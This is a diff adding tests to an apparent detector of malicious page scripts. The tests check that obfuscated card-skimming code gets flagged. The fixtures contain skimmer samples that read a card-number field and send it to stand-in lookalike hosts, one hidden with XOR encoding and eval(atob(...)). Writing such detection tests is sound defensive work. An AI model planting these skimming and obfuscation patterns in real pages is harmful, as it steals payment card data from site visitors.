@@ -60,3 +60,27 @@ describe('evaluator rewrites of values a first look knew', () => {
     expect(v.findings.map((f) => f.message).join('\n')).toContain('https://h.example/c')
   })
 })
+
+describe('what the first look only has by folding is not known', () => {
+  it('a host joined from names is read by the rules that read texts, not only by the folder', () => {
+    const source = `var a = 'paypa1-', b = 'secure.com'; var data = $('#cc_number').val()
+      new Image().src = 'https://' + a + b + '/c?d=' + data`
+    expect(inspectScript(source).verdict.findings.map((f) => f.rule)).toContain('lookalike-domain')
+  })
+
+  it('a computed object key is a name, read as spelled', () => {
+    const source = `var r = 'rl'; var n = $('#cc_number').val()
+      jQuery.ajax({ ['u' + r]: 'https://collect.example/g', type: 'POST', data: { n: n } })`
+    const read = inspectScript(source).verdict.findings.find(
+      (f) => f.rule === 'card-field-read-and-send',
+    )
+    expect(read?.points).toBeGreaterThanOrEqual(45)
+  })
+
+  it('a decoded layer the first look did not evaluate is evaluated by the second', () => {
+    const payload = `function d(k) { var s = ''; for (var i = 0; i < k.length; i++) s += String.fromCharCode(k[i] ^ 7); return s }
+      new Image().src = d([${[...'https://paypa1-secure.com/c?d='].map((c) => c.charCodeAt(0) ^ 7).join(',')}]) + document.querySelector('#cc_number').value`
+    const source = `var h = 'x'; window.t = h + 'y'; eval(atob('${Buffer.from(payload).toString('base64')}'))`
+    expect(inspectScript(source).verdict.findings.map((f) => f.rule)).toContain('lookalike-domain')
+  })
+})
